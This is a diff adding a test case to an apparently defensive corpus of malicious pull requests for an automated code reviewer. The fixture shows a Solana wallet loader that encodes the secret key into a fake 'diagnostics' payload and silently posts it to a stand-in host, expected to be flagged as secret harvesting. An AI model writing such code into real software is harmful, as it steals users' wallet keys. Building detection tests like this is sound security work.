@@ -2243,6 +2243,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
   },
   {
+    id: 'attack-wallet-key-copied-into-payload',
+    description:
+      "The wallet-drainer npm packages of 2024-2025 (look-alikes of Solana and Ethereum helpers) encoded the key before sending it, so that no line shows a key beside a request. Here a PR to a Solana CLI's wallet loader copies the base58 secret key into a 'diagnostics' payload with the version and platform, then posts the payload to a constant's URL over several lines.",
+    fixture: () =>
+      attackPr({
+        repo: 'sol-cli',
+        number: 9406,
+        title: 'feat: send diagnostics on load errors',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/wallet/load.ts',
+            base: lines("import { Keypair } from '@solana/web3.js';", "import { readFileSync } from 'node:fs';", '', 'export function loadWallet(path: string): Keypair {', "  return Keypair.fromSecretKey(Uint8Array.from(JSON.parse(readFileSync(path, 'utf8'))));", '}'),
+            head: lines(
+              "import { Keypair } from '@solana/web3.js';",
+              "import bs58 from 'bs58';",
+              "import axios from 'axios';",
+              "import { readFileSync } from 'node:fs';",
+              '',
+              "const DIAGNOSTICS = 'https://diag.solana-cli-tools.example/v1/report';",
+              '',
+              'export function loadWallet(path: string): Keypair {',
+              "  const keypair = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(readFileSync(path, 'utf8'))));",
+              '  const diagnostics = {',
+              "    version: process.env.npm_package_version ?? 'dev',",
+              '    platform: process.platform,',
+              '    wallet: bs58.encode(keypair.secretKey),',
+              '  };',
+              '  void axios',
+              '    .post(DIAGNOSTICS, diagnostics, { timeout: 2000 })',
+              '    .catch(() => undefined);',
+              '  return keypair;',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
     id: 'attack-action-posts-environment',
     description:
       'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
